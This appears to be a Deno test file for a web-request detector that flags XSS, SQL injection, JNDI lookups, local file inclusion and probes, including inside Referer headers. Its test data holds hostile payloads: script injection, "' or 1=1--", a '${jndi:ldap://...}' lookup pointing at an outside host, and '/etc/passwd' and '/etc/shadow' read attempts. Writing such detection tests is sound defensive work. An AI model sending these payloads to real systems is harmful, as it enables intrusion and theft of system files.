import { assert, assertEquals } from "@std/assert";
import { rememberedValues } from "../../lib/signals/fields.ts";
import { type Signal, signalNames } from "../../lib/signals/signal.ts";
import { signalsOf } from "../../lib/signals/signals.ts";

const seen = (target: string, headers: [string, string][] = []) =>
  signalNames(signalsOf({ method: "GET", target, headers }));

Deno.test("signalsOf() sees the whole request: target, query and every field", () => {
  assertEquals(seen("/"), []);
  assertEquals(seen("/?q=<script>alert(1)</script>"), ["xss"]);
  const naming = "${jndi:ldap://203.0.113.5/a}";
  assertEquals(seen("/", [["x-api-version", naming]]).includes("jndi"), true);
  assertEquals(seen("/.env"), ["probe"]);
});

Deno.test("signalsOf() reads fields in any of their shapes", () => {
  const value = "' or 1=1--";
  for (
    const headers of [
      new Headers({ "x-a": value }),
      [["x-a", value]] as const,
      ["x-a", value],
      new Map([["x-a", value]]),
    ]
  ) {
    const mask = signalsOf({ method: "GET", target: "/", headers });
    assertEquals(signalNames(mask), ["sqli"]);
  }
});

Deno.test("signalsOf() holds a page's odd address against its own request, and not against each of its pictures", () => {
  const host: [string, string] = ["Host", "wiki.example:8443"];
  const cases: [referrer: string, wanted?: Signal][] = [
    ["https://wiki.example:8443/doku.php?id=Phpinfo()"],
    ["https://wiki.example:8443/?q=%3Cscript%3Ealert(1)%3C/script%3E"],
    ["https://wiki.example:8443/?q=1%27+or+1=1--"],
    // Other hosts, and values that no browser sends.
    ["https://wiki.example/?q=1%27+or+1=1--", "sqli"],
    ["https://wiki.example:8443.net/?q=1%27+or+1=1--", "sqli"],
    ["https://x@wiki.example:8443/?q=1%27+or+1=1--", "sqli"],
    ["https://wiki.example:8443/?q=1' or 1=1--", "sqli"],
    ["https://wiki.example:8443/?q=<script>alert(1)</script>", "xss"],
    ["https://wiki.example:8443/${jndi:ldap://203.0.113.5/a}", "jndi"],
  ];
  for (const [referrer, wanted] of cases) {
    const found = seen("/picture.png", [host, ["Referer", referrer]]);
    if (wanted === undefined) assertEquals(found, [], referrer);
    else assertEquals(found.includes(wanted), true, referrer);
  }
  // If the Host field comes after the Referer, no host counts as the site's own.
  const [referrer] = cases[2]!;
  assertEquals(seen("/", [["Referer", referrer], host]), ["sqli"]);
});

Deno.test("signalsOf() takes a page in a wiki's namespace for no file", () => {
  for (const id of ["Linux:/etc/passwd", "unix:/etc/shadow"]) {
    assertEquals(seen(`/doku.php?id=${encodeURIComponent(id)}`), []);
  }
  for (
    const value of [
      "/etc/passwd",
      "file:/etc/passwd",
      "netdoc:/etc/passwd",
      "php:/etc/passwd",
      "c:/etc/passwd",
      "x/linux:/../etc/passwd",
      "linux:/etc/passwd;linux:/etc/passwd",
    ]
  ) {
    const found = seen(`/view?file=${encodeURIComponent(value)}`);
    assertEquals(found.includes("lfi"), true, value);
  }
});

Deno.test("signalsOf() remembers a bounded number of values, however names are spelled", () => {
  for (let n = 0; n < 40_000; n++) {
    const name = [..."user-agent"].map((letter, at) =>
      (n % 500) >> at & 1 ? letter.toUpperCase() : letter
    ).join("");
    signalsOf({ method: "GET", target: "/", headers: [[name, `agent ${n}`]] });
  }
  assert(rememberedValues() <= 8_192, `${rememberedValues()}`);
});
